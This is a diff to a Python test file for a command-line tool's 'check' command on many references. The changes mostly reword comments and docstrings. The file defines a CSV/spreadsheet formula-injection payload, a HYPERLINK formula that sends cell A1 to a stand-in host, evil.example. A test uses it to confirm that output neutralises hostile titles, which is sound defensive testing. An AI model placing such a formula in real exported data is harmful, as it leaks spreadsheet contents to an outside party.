@@ -1,5 +1,5 @@
 # SPDX-License-Identifier: MIT
-"""`prelisten check` on many references: the list it reads, the order and form of what it writes, the limits it keeps, and how it ends."""
+"""`prelisten check` on many references: how it reads the list, the order and format of its output, its rate limits, and its exit status."""
 import csv
 import io
 import json
@@ -21,7 +21,7 @@ PLAYABLE, NOT_AVAILABLE, USAGE, KEY_PROBLEM, NETWORK = range(5)
 INTERRUPTED, TERMINATED, READER_GONE = 130, 143, 141
 PASTED_KEY = "oak_live_PastedCanary0123456789"
 HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Late, Night")'
-READY = 120 * SLACK  # seconds that anything here may take
+READY = 120 * SLACK  # seconds that any step may take
 
 
 def library(count):
@@ -29,7 +29,7 @@ def library(count):
 
 
 def rows_of(text, form):
-    """The rows of an output, read as strictly as a program would."""
+    """The rows of an output, parsed strictly."""
     if form == "json":
         return json.loads(text)
     return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))
@@ -45,7 +45,7 @@ class Lists(Scenario):
         return ("check", "--api-base", self.service.api, "--organization", ORGANIZATION, *arguments)
 
     def start(self, *arguments, key=KEY, **streams):
-        """The command, running. It reads nothing unless @p streams says so. Unbuffered, so that some of its output can be read first."""
+        """Starts the command. Its stdin is empty unless @p streams gives one. Unbuffered, so that its output can be read while it runs."""
         environment = {**os.environ, **home_environment(self.folder / "command"), "FREDDY_API_KEY": key}
         streams = {"stdin": subprocess.DEVNULL, "stdout": subprocess.PIPE, "stderr": subprocess.PIPE, **streams}
         process = processes.start([BIN_DIR / "prelisten", *self.arguments(*arguments)], env=environment, bufsize=0, **streams)
@@ -53,7 +53,7 @@ class Lists(Scenario):
         return process
 
     def list_file(self, lines):
-        path = Path(self._folder.name) / "list"  # it may hold secrets, which is its writer's business
+        path = Path(self._folder.name) / "list"  # outside the folder that is searched for leaks, since the list itself may hold secrets
         path.write_text("\n".join(lines) + "\n", encoding="utf-8")
         return str(path)
 
@@ -120,7 +120,7 @@ class Lists(Scenario):
         print(f"peak memory: {peaks[0]:.1f} MiB for 1,000 rows, {peaks[1]:.1f} MiB for 10,000")
         self.assertLess(peaks[1] - peaks[0], 24, "MiB for 9,000 rows more")
 
-    # --- what is written ----------------------------------------------------------------------------------------------
+    # --- the output ----------------------------------------------------------------------------------------------
     def test_aHostileTitleIsInertAndComesBack(self):
         self.start_service()
         done = self.check("--format", "csv", "--deep", lines=[self.track.id])
@@ -199,7 +199,7 @@ class Lists(Scenario):
                 self.assertEqual((done.returncode, done.stdout), (USAGE, ""))
                 self.assertIn(word, done.stderr)
 
-    # --- with a person at the terminal ------------------------------------------------------------------------------------
+    # --- with a user at the terminal ------------------------------------------------------------------------------------
     def read_terminal(self, terminal, until, seconds=READY):
         text, deadline = b"", time.monotonic() + seconds
         while not until(text) and time.monotonic() < deadline:
@@ -207,7 +207,7 @@ class Lists(Scenario):
             if ready:
                 try:
                     text += os.read(terminal, 4096)
-                except OSError:  # nobody holds the other end any more
+                except OSError:  # the other end was closed
                     break
         return text.decode(errors="replace")
 
